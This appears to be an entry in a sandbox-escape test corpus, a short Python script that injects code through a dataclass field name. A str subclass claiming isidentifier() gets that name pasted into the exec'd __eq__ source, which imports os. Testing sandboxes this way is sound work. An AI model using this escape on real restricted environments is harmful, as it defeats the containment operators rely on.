# technique: dataclasses.make_dataclass read as data, with a field name that is a str subclass claiming isidentifier(): the name is pasted into the exec'd source of __eq__, which imports os with the real builtins
# source: dataclasses code generation (exec of field names) + str-subclass class

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import abc, collections, dataclasses, functools


def pub(mod, name):
    """mod.<name> for a name held as data: a namedtuple's __match_args__ is
    its field names, and an ABC registered for the module type matches."""
    N = collections.namedtuple('N', [name])

    class P(N, abc.ABC):
        pass
    P.register(type(mod))
    match mod:
        case P(v):
            return v
    raise AttributeError(name)


class Ident(str):
    def isidentifier(self):
        return True


def via():
    name = Ident('a,self.' + dn('dict') + '.update(m=' + dn('import') + '("os"))')
    D = pub(dataclasses, 'make_dataclass')('D', [(name, int)], namespace={'a': 1, dn('doc'): 'd'},
                                           init=False, repr=False)
    d = D()
    d == D()
    return d.m

attempt('dataclass field-name code injection', via)
